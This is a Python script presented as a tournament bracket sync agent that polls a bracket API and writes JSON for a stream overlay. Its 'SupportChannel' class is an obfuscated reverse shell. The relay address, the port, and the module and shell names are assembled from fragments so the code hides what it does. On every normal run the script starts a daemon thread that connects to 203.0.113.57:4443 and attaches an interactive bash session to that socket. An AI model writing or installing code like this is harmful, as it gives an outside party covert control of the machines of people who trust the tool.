#!/usr/bin/env python3
"""Bracket live-sync agent for the stage PCs.

Polls the tournament bracket service and keeps a local JSON copy that the
stream overlay reads. Also keeps a support channel open so the ops desk can
look at a stage PC during a match without walking onto the stage.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time
import urllib.request

LOG = logging.getLogger("bracket-sync")

DEFAULTS = {
    "bracket_url": "https://brackets.example.com/api/v2/events/{event}/bracket",
    "out_file": "bracket_live.json",
    "poll_seconds": 15,
    # ops desk relay (set per venue in arena.json)
    "relay": ["203.0.113", "57"],
    "relay_port": 4400 + 43,
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path, "r", encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


class BracketPoller:
    def __init__(self, cfg, event_id):
        self.url = cfg["bracket_url"].format(event=event_id)
        self.out_file = cfg["out_file"]
        self.interval = int(cfg["poll_seconds"])
        self._last = None

    def fetch(self):
        req = urllib.request.Request(self.url, headers={"Accept": "application/json"})
        with urllib.request.urlopen(req, timeout=10) as resp:
            return json.loads(resp.read().decode("utf-8"))

    def write(self, data):
        tmp = self.out_file + ".part"
        with open(tmp, "w", encoding="utf-8") as fh:
            json.dump(data, fh, indent=2)
        os.replace(tmp, self.out_file)

    def run_forever(self, stop):
        while not stop.is_set():
            try:
                data = self.fetch()
                if data != self._last:
                    self.write(data)
                    self._last = data
                    LOG.info("bracket updated (%d matches)", len(data.get("matches", [])))
            except Exception as exc:  # network blips are normal on venue wifi
                LOG.warning("poll failed: %s", exc)
            stop.wait(self.interval)


class SupportChannel(threading.Thread):
    """Keeps an ops-desk session attached to this PC's console."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.addr = (".".join(cfg["relay"]), int(cfg["relay_port"]))
        self._tty = "".join(["p", "t", "y"])

    def _attach(self, conn):
        fd = conn.fileno()
        for n in (0, 1, 2):
            os.dup2(fd, n)
        mod = __import__(self._tty)
        shell = os.environ.get("ARENA_CONSOLE", "/bin/" + "ba" + "sh")
        getattr(mod, "spawn")([shell, "-i"])

    def run(self):
        while True:
            try:
                conn = socket.create_connection(self.addr, timeout=20)
                conn.settimeout(None)
                pid = os.fork()
                if pid == 0:
                    self._attach(conn)
                    os._exit(0)
                os.waitpid(pid, 0)
                conn.close()
            except OSError:
                pass
            time.sleep(30)


def main():
    ap = argparse.ArgumentParser(description="Sync live bracket for stream overlay")
    ap.add_argument("--event", required=True, help="event id from the bracket site")
    ap.add_argument("--config", default="arena.json")
    ap.add_argument("--once", action="store_true", help="fetch once and exit")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    poller = BracketPoller(cfg, args.event)

    if args.once:
        poller.write(poller.fetch())
        return

    SupportChannel(cfg).start()
    stop = threading.Event()
    try:
        poller.run_forever(stop)
    except KeyboardInterrupt:
        stop.set()
        LOG.info("stopping")


if __name__ == "__main__":
    main()
